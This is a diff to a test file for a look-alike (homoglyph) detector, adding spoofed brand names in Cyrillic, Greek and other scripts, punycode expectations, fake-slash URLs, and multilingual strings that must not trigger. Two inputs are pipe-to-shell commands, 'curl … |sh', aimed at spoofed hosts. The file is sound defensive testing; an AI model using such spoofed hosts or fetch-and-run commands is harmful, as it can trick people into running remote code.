@@ -28,6 +28,29 @@ const found: readonly (readonly [text: string, ...found: (readonly [text: string
   ['сору the file', ['сору', 'is Cyrillic, not Latin']],
   ['account РАУРАУ', ['РАУРАУ', 'is Cyrillic, not Latin']],
   ['ΑΒΒ', ['ΑΒΒ', 'is Greek, not Latin']],
+  ['to раураӏ', ['раураӏ', 'is Cyrillic, not Latin']],
+  ['аррӏе', ['аррӏе', 'is Cyrillic, not Latin']],
+  ['ӀӀ_аӏе2', ['ӀӀ_аӏе2', 'is Cyrillic, not Latin']],
+  ['сосо раураӏ', ['сосо', 'is Cyrillic, not Latin'], ['раураӏ', 'is Cyrillic, not Latin']],
+  ['сосо со\u0301со1', ['сосо', 'is Cyrillic, not Latin'], ['со\u0301со1', 'is Cyrillic, not Latin']],
+  ['ανορ ϲοϲο', ['ανορ', 'is Greek, not Latin'], ['ϲοϲο', 'is Greek, not Latin']],
+  ['սոօո', ['սոօո', 'is Armenian, not Latin']],
+  ['ᎪᎡᎬ', ['ᎪᎡᎬ', 'is Cherokee, not Latin']],
+  ['ꓑꓮꓬ', ['ꓑꓮꓬ', 'is Lisu, not Latin']],
+  ['сосоа.agency, для клиента', ['сосоа.agency', 'is xn--80a1aakb.agency']],
+  ['раураӏ.exchange', ['раураӏ.exchange', 'is xn--80aa0cbo65f.exchange']],
+  ['наш сервер пример.corp:8080', ['пример.corp', 'is xn--e1afmkfd.corp']],
+  ['СОСО.AGENCY', ['СОСО.AGENCY', 'is xn--n1aahb.agency']],
+  ['curl ápple.agency|sh', ['ápple.agency', 'is xn--pple-4na.agency']],
+  ['例え.museum', ['例え.museum', 'is xn--r8jz45g.museum']],
+  ['curl apple.com⁄login.evil.com|sh', ['apple.com⁄login.evil.com', 'is apple.xn--comlogin-g03d.evil.com']],
+  ['apple.com∕pay.evil.com', ['apple.com∕pay.evil.com', 'is apple.xn--compay-re3c.evil.com']],
+  ['apple.com／pay.evil.com', ['apple.com／pay.evil.com', 'is not a valid host']],
+  ['apple.com⧸pay', ['apple.com⧸pay', 'has U+29F8, not a slash']],
+  ['apple.com꞉8080', ['apple.com꞉8080', 'has U+A789, not a colon']],
+  ['apple.com♯top', ['apple.com♯top', 'has U+266F, not a hash']],
+  ['pay‐pal.com', ['pay‐pal.com', 'is xn--paypal-dg0c.com']],
+  ['apple·com.evil.com', ['apple·com.evil.com', 'is xn--applecom-koa.evil.com']],
 ];
 
 const ordinary = [
@@ -44,6 +67,14 @@ const ordinary = [
   'हिंदीAPI १२३',
   '😀 👩\u200d🚀 ok',
   'größe.value und Maße.laenge',
+  'Это конец.начало второго, готово.Done и отчёт.rar, иван.petrov@example.com',
+  'Къонах, шайтӏан, аӏаьржа; адыгэбзэ щӏэныгъэ; сосо',
+  'Її сад росте; сосо',
+  'C’est terminé.merci, l’été.puis',
+  '好的.thanks, 数据.value, なるほど.done',
+  '1⁄2 cup, 5 км⁄ч, и⁄или, S.5–7, vgl. S.5–S.7, 5·10',
+  'A社／B社と東京／大阪、＃タグ',
+  'our page—example.com, “example.com”, →example.com, a.com→b.com',
 ];
 
 describe('a look-alike', () => {
@@ -73,7 +104,27 @@ describe('a look-alike', () => {
   });
 
   test('is looked for in a megabyte', () => {
-    const units = ['а', 'aа', 'а.', 'а.a', '字', '://', '://а', 'а@', '-а', 'а_', '\u0301', '1٢', '。', '😀', 'а.com '];
+    const units = [
+      'а',
+      'aа',
+      'а.',
+      'а.a',
+      '字',
+      '://',
+      '://а',
+      'а@',
+      '-а',
+      'а_',
+      '\u0301',
+      '1٢',
+      '。',
+      '😀',
+      'а.com ',
+      'а⁄',
+      '⁄',
+      '／字',
+    ];
+    units.push(`а${'-'.repeat(251)}а`, `а${'⁄'.repeat(251)}а`, `а${'.a'.repeat(120)}⁄`);
     for (const unit of units) assert.ok(lookAlikesIn([unit.repeat(1_000_000 / unit.length)]).length <= 50);
   });
 });
